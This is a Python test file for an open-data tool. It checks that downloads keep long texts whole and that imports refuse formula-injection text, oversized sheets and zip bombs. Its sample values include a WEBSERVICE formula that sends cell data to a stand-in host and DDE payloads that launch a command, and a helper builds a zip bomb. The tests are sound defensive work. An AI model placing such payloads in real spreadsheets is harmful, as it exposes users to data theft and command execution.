"""Safe by construction: every download carries every value whole, no download holds a text a
spreadsheet runs as a formula, and ``import table`` never writes a cut text back, nor lets a
small workbook unpack to gigabytes or a sheet of 17 billion cells."""

from __future__ import annotations

import csv
import json
import sqlite3
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from smartregio.cells import CSV_FIELD_LIMIT, LONG_MARKER, LONG_TEXT_SHEET, XLSX_CELL_LIMIT
from smartregio.frontmatter import read
from smartregio.load import load_catalogue
from smartregio.pipeline import BuildError
from smartregio.publish.releases import compile_downloads

from .conftest import make_data
from .site_helpers import build
from .test_import_table import HEADERS, ROW_A, run_import, solution_files, workbook

# as long as a body may be (the validation's limit), three Excel cells' worth; an emoji
# counts twice in Excel, so the parts must be cut by UTF-16 length, not by characters
PARAGRAPH = 'Ein Absatz über Bäume, Fußwege und Größe 🌳 mit „Anführungszeichen“, ; und "Quotes".\n\n'
LONG_BODY = (PARAGRAPH * (100_000 // len(PARAGRAPH) + 1))[:99_990] + "Ende.\n"
FORMULAS = [
    '=HYPERLINK("https://boese.example/";"Klick")',
    '=WEBSERVICE("https://boese.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def with_body(data: Path, body: str) -> Path:
    path = data / "solutions/stadtnavi.md"
    text = path.read_text(encoding="utf-8")
    head = text[: text.index("\n---\n") + 5]
    path.write_text(head + body, encoding="utf-8", newline="\n")
    return path


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    """A CSV file as a spreadsheet program writes it (a carriage return inside a cell quoted)."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows(rows)
    return path


def csv_rows(path: Path) -> list[dict[str, str]]:
    """Rows as a reuser's script reads them: Python's csv module with its default field limit."""
    assert csv.field_size_limit() >= CSV_FIELD_LIMIT
    limit = csv.field_size_limit(CSV_FIELD_LIMIT)  # others in this process may have raised it
    try:
        with path.open(encoding="utf-8", newline="") as handle:
            return list(csv.DictReader(handle))
    finally:
        csv.field_size_limit(limit)


@pytest.fixture(scope="module")
def long_site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("lang")
    data = make_data(root / "data")
    with_body(data, LONG_BODY)
    build(data, root / "site", root / "work")
    return root / "site/daten/latest"


# --- 1. a long body builds, and every format carries it whole ---------------------------------


def test_a_long_body_builds_and_every_download_carries_it_whole(long_site):
    assert len(LONG_BODY) > 3 * XLSX_CELL_LIMIT
    solutions = {row["id"]: row for row in csv_rows(long_site / "solutions.csv")}
    assert solutions["stadtnavi"]["body"] == LONG_BODY
    with zipfile.ZipFile(long_site / "smartregio.zip") as archive:
        text = archive.read("smartregio/solutions.csv").decode("utf-8")
    assert LONG_BODY.replace("\n", "\r\n") not in text  # kept as written, not re-encoded
    assert (
        next(r for r in csv.DictReader(text.splitlines(keepends=True)) if r["id"] == "stadtnavi")["body"]
        == LONG_BODY
    )
    entries = json.loads((long_site / "loesungen.json").read_text(encoding="utf-8"))
    assert next(e for e in entries if e["id"] == "stadtnavi")["body"] == LONG_BODY
    whole = json.loads((long_site / "smartregio.json").read_text(encoding="utf-8"))
    assert next(e for e in whole["loesungen"] if e["id"] == "stadtnavi")["body"] == LONG_BODY
    db = sqlite3.connect(long_site / "smartregio.sqlite")
    try:
        assert db.execute("SELECT body FROM solutions WHERE id = 'stadtnavi'").fetchone()[0] == LONG_BODY
    finally:
        db.close()


def test_the_workbook_holds_a_long_text_whole_on_its_own_sheet(long_site):
    book = load_workbook(long_site / "smartregio.xlsx")
    sheet = book["Lösungen"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == "stadtnavi")
    marker = row[header.index("Beschreibung")]
    match = LONG_MARKER.match(marker)
    assert match, marker
    assert match["sheet"] == LONG_TEXT_SHEET and match["length"] == "99.996"
    parts = [
        r
        for r in book[LONG_TEXT_SHEET].iter_rows(min_row=2, values_only=True)
        if r[0] == int(match["number"])
    ]
    assert [p[1] for p in parts] == list(range(1, int(match["parts"]) + 1))
    assert "".join(p[6] for p in parts) == LONG_BODY
    assert {p[3] for p in parts} == {"Lösungen"}
    for worksheet in book.worksheets:  # nothing anywhere was cut at Excel's limit
        for cells in worksheet.iter_rows(values_only=True):
            for value in cells:
                if isinstance(value, str):
                    assert len(value.encode("utf-16-le")) // 2 < XLSX_CELL_LIMIT
    contents = [r[0] for r in book["Inhalt"].iter_rows(min_row=2, values_only=True)]
    assert LONG_TEXT_SHEET in contents


def test_a_body_longer_than_a_csv_cell_stops_the_build_in_german(tmp_path):
    data = make_data(tmp_path / "data")
    with_body(data, "x" * (CSV_FIELD_LIMIT + 10))
    with pytest.raises(BuildError) as failure:
        build(data, tmp_path / "site", tmp_path / "work")
    text = str(failure.value) + "".join(p.as_text() for p in failure.value.problems or [])
    assert "stadtnavi.md" in text and "body" in text and "Zeichen" in text
    assert not (tmp_path / "site").exists()


# --- 2. a workbook is never read back with a cut text ------------------------------------------


@pytest.fixture
def long_downloads(data, tmp_path) -> Path:
    with_body(data, LONG_BODY)
    catalogue, problems = load_catalogue(data)
    assert not problems
    compile_downloads(catalogue, data, tmp_path / "downloads")
    return tmp_path / "downloads"


def test_reimporting_the_workbook_brings_the_whole_text_back(cli, data, long_downloads):
    path = data / "solutions/stadtnavi.md"
    path.write_text(path.read_text(encoding="utf-8").replace(LONG_BODY, "Kurz.\n"), encoding="utf-8")
    result = run_import(cli, long_downloads / "smartregio.xlsx", data, "--update")
    assert result.code == 0, result.err
    assert read(path, "stadtnavi.md").body == LONG_BODY


def test_a_workbook_without_its_long_texts_is_refused(cli, data, long_downloads, tmp_path):
    book = load_workbook(long_downloads / "smartregio.xlsx")
    del book[LONG_TEXT_SHEET]
    book.save(tmp_path / "ohne.xlsx")
    before = (data / "solutions/stadtnavi.md").read_bytes()
    result = run_import(cli, tmp_path / "ohne.xlsx", data, "--update")
    assert result.code == 1
    assert "Spalte „Beschreibung“ (body): Die Zelle verweist auf den langen Text Nr. 1" in result.err
    assert "nicht alle 4 Teile (gefunden: keiner)" in result.err
    assert (data / "solutions/stadtnavi.md").read_bytes() == before


def test_a_text_cut_at_excels_limit_is_never_written_back(cli, data, tmp_path):
    """A workbook from before the long-text sheet: xlsxwriter cut the text at 32,767 characters."""
    row = list(ROW_A)
    row[-1] = LONG_BODY[:XLSX_CELL_LIMIT]
    workbook([HEADERS, row]).save(tmp_path / "alt.xlsx")
    result = run_import(cli, tmp_path / "alt.xlsx", data)
    assert result.code == 1
    assert "Zeile 2: Spalte „Beschreibung“ (body): Die Zelle hat 32.767 Zeichen" in result.err
    assert "abgeschnitten" in result.err
    assert solution_files(data) == {"stadtnavi.md"}


def test_a_long_text_marker_in_a_csv_file_is_refused(cli, data, tmp_path, long_downloads):
    book = load_workbook(long_downloads / "smartregio.xlsx")
    sheet = book["Lösungen"]
    header = [c.value for c in sheet[1]]
    marker = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == "stadtnavi")[
        header.index("Beschreibung")
    ]
    row = list(ROW_A)
    row[-1] = marker
    result = run_import(cli, write_csv(tmp_path / "kopie.csv", [HEADERS, row]), data)
    assert result.code == 1
    assert "Zeile 2: Spalte „Beschreibung“ (body): Die Zelle verweist auf den langen Text Nr. 1" in result.err
    assert solution_files(data) == {"stadtnavi.md"}


# --- 1. an over-long cell in an imported CSV file ----------------------------------------------


def test_an_over_long_csv_cell_is_named_with_its_limit(cli, data, tmp_path):
    row = list(ROW_A)
    row[-1] = "y" * (CSV_FIELD_LIMIT + 1)
    result = run_import(cli, write_csv(tmp_path / "lang.csv", [HEADERS, row]), data)
    assert result.code == 1
    assert (
        "Zeile 2: Spalte „Beschreibung“ (body): Der Wert hat 131.073 Zeichen; eine Zelle des "
        "Datenpakets darf höchstens 131.072 Zeichen haben"
    ) in result.err
    assert "Anführungszeichen paarweise" not in result.err
    assert solution_files(data) == {"stadtnavi.md"}


# --- 3. formulas --------------------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_like_text_is_refused_alike_from_csv_and_xlsx(cli, data, tmp_path, value):
    row = list(ROW_A)
    row[0] = value
    row.insert(0, "boese")  # the id: without it, one would be made from the name
    header = ["Kennung", *HEADERS]
    from_csv = run_import(cli, write_csv(tmp_path / "formel.csv", [header, row]), data)
    book = workbook([header, row])
    book.active["B2"].data_type = "s"  # stored as text, as a spreadsheet saves a quoted '=…
    book.save(tmp_path / "formel.xlsx")
    from_xlsx = run_import(cli, tmp_path / "formel.xlsx", data)
    for result in (from_csv, from_xlsx):
        assert result.code == 1
        assert "Zeile 2: Spalte „Name“ (name): Der Text beginnt mit" in result.err, result.err
        assert "CSV-Injection" in result.err
    assert solution_files(data) == {"stadtnavi.md"}


def test_only_the_start_of_a_text_makes_it_formula_like(cli, data, tmp_path):
    """Dashes and signs inside a text are fine; the row whose text starts with one is skipped."""
    good = list(ROW_A)
    good[1] = "Bürger – auch mit -20 % Aufwand oder +5 Stunden – kümmern sich um Bäume."
    bad = ["Mängelmelder", "-20 % Aufwand", *ROW_A[2:]]
    table = write_csv(tmp_path / "gemischt.csv", [HEADERS, good, bad])
    result = run_import(cli, table, data, "--skip-invalid")
    assert "Zeile 3: Spalte „Kurzbeschreibung“ (summary): Der Text beginnt mit „-“" in result.err
    assert solution_files(data) == {"stadtnavi.md", "giess-den-kiez.md"}


@pytest.mark.parametrize(("field", "value"), [("name", FORMULAS[0]), ("summary", FORMULAS[3])])
def test_no_download_carries_a_formula_like_text(cli, data, tmp_path, field, value):
    path = data / "solutions/stadtnavi.md"
    text = path.read_text(encoding="utf-8")
    old = next(line for line in text.splitlines() if line.startswith(f"{field}: "))
    path.write_text(text.replace(old, f"{field}: {json.dumps(value)}"), encoding="utf-8")
    line = text.splitlines().index(old) + 1
    result = cli("package", "--data", str(data), "--out", str(tmp_path / "paket"))
    assert result.code == 1
    assert f"stadtnavi.md:{line}: {field}: Der Text beginnt mit „{value[0]}“" in result.err
    assert "CSV-Injection" in result.err
    assert not (tmp_path / "paket").exists()


# --- 4. workbooks that would exhaust memory ---------------------------------------------------


def timed_import(cli, path: Path, data: Path):
    start = time.monotonic()
    result = run_import(cli, path, data)
    return result, time.monotonic() - start


def test_a_cell_at_xfd1048576_is_refused_before_loading(cli, data, tmp_path):
    book = workbook([HEADERS, ROW_A])
    book.active["XFD1048576"] = "x"
    book.save(tmp_path / "weit.xlsx")
    assert (tmp_path / "weit.xlsx").stat().st_size < 10_000
    result, seconds = timed_import(cli, tmp_path / "weit.xlsx", data)
    assert result.code == 1
    assert "Das Blatt xl/worksheets/sheet1.xml reicht bis" in result.err
    assert "XFD1048576" in result.err and "(1.048.576 Zeilen, 16.384 Spalten)" in result.err
    assert "höchstens 100.000 Zeilen" in result.err
    assert seconds < 5
    assert solution_files(data) == {"stadtnavi.md"}


def _rewritten(source: Path, target: Path, member: str, change) -> Path:
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in original.infolist():
            data = original.read(item)
            out.writestr(
                item, change(data.decode("utf-8")).encode("utf-8") if item.filename == member else data
            )
    return target


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        (
            '<dimension ref="A1:K2"/>',
            '<dimension ref="A1:ZZ200000"/>',
            "reicht bis A1:ZZ200000 (angegebene Größe)",
        ),
        (
            "</sheetData>",
            '</sheetData><mergeCells count="1"><mergeCell ref="A3:CV30000"/></mergeCells>',
            "Die verbundenen Zellen des Blatts xl/worksheets/sheet1.xml umfassen 2.999.800 Zellen",
        ),
    ],
)
def test_a_declared_dimension_or_merged_range_beyond_the_limits_is_refused(
    cli, data, tmp_path, old, new, words
):
    workbook([HEADERS, ROW_A]).save(tmp_path / "gut.xlsx")
    sheet = "xl/worksheets/sheet1.xml"
    assert old in zipfile.ZipFile(tmp_path / "gut.xlsx").read(sheet).decode("utf-8")
    path = _rewritten(
        tmp_path / "gut.xlsx", tmp_path / "gross.xlsx", sheet, lambda xml: xml.replace(old, new)
    )
    result, seconds = timed_import(cli, path, data)
    assert result.code == 1 and seconds < 5
    assert words in result.err, result.err
    assert solution_files(data) == {"stadtnavi.md"}


def _bomb(path: Path, source: Path, megabytes: int) -> Path:
    """A real workbook plus one member of zeros: megabytes unpacked, kilobytes on disk."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in original.infolist():
            out.writestr(item, original.read(item))
        with out.open("xl/media/image1.png", "w", force_zip64=True) as member:
            chunk = bytes(1 << 20)
            for _ in range(megabytes):
                member.write(chunk)
    return path


@pytest.mark.parametrize(("megabytes", "words"), [(80, "entpackt 80 MB groß"), (4, "-fach gepackt")])
def test_a_zip_bomb_is_refused_before_loading(cli, data, tmp_path, megabytes, words):
    workbook([HEADERS, ROW_A]).save(tmp_path / "gut.xlsx")
    bomb = _bomb(tmp_path / "bombe.xlsx", tmp_path / "gut.xlsx", megabytes)
    assert bomb.stat().st_size < 200_000
    result, seconds = timed_import(cli, bomb, data)
    assert result.code == 1
    assert words in result.err, result.err
    assert seconds < 5
    assert solution_files(data) == {"stadtnavi.md"}


def test_validate_refuses_formula_like_text_at_its_line_as_the_package_would(data, cli):
    """validate and package agree: what validate accepts packages, what the package would refuse
    validate names first, with file, line and field."""
    path = data / "solutions/stadtnavi.md"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("name: stadtnavi", "name: '=HYPERLINK(\"http://x\")'", 1), encoding="utf-8")
    result = cli("validate", "--data", str(data))
    assert result.code == 1
    line = next(i for i, row in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if row.startswith("name:"))
    assert f"solutions/stadtnavi.md:{line}: name:" in result.err and "Formel" in result.err
